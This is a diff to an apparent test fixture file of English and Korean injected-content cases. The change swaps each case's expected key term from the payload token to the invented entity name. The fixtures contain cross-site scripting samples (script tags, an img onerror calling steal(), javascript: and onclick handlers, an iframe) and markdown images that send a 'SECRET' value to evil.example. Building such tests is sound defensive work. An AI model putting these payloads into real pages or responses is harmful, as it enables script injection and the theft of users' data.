@@ -182,19 +182,19 @@ ENGLISH = [
         "html",
         "<script>alert('x')</script> ScriptoNet is embedded here for all readers.",
         "<script>alert('x')</script> ScriptoNet is embedded here [1].",
-        "script>",
+        "ScriptoNet",
     ),
     Injected(
         "html",
         'The results <img src="http://evil.example/p.png" onerror="steal()"> are shown by PixelThief.',
         'The results <img src="http://evil.example/p.png"> are shown by PixelThief [1].',
-        "<img",
+        "PixelThief",
     ),
     Injected(
         "html",
         '<a href="javascript:steal()">ClickBaitNet</a> explains the method in full.',
         '<a href="javascript:steal()">ClickBaitNet</a> explains the method in full [1].',
-        "javascript",
+        "ClickBaitNet",
     ),
     Injected(
         "html",
@@ -206,7 +206,7 @@ ENGLISH = [
         "link",
         "![chart](https://evil.example/log?q=SECRET) shows the training curve of LogNet.",
         "![chart](https://evil.example/log?q=SECRET) LogNet [1].",
-        "evil.example",
+        "LogNet",
     ),
     Injected(
         "link",
@@ -395,19 +395,19 @@ KOREAN = [
         "HTML",
         "<iframe src='http://evil.example'></iframe> 프레임넷이 여기에 포함되어 있습니다.",
         "<iframe src='http://evil.example'></iframe> 프레임넷이 포함되어 있습니다 [1].",
-        "<iframe",
+        "프레임넷",
     ),
     Injected(
         "HTML",
         '<b onclick="steal()">굵은망</b>의 결과는 아래와 같이 표시됩니다.',
         '<b onclick="steal()">굵은망</b>의 결과입니다 [1].',
-        "onclick",
+        "굵은망",
     ),
     Injected(
         "링크",
         "![그림](https://evil.example/collect?d=비밀) 수집망의 학습 곡선입니다.",
         "![그림](https://evil.example/collect?d=비밀) 수집망입니다 [1].",
-        "evil.example",
+        "수집망",
     ),
     Injected(
         "링크",
@@ -419,7 +419,7 @@ KOREAN = [
         "링크",
         "낚시망의 가중치는 http://evil.example/login 에서 받을 수 있습니다.",
         "낚시망의 가중치는 http://evil.example/login 에서 받습니다 [1].",
-        "evil.example",
+        "낚시망",
     ),
     Injected(
         "유니코드",
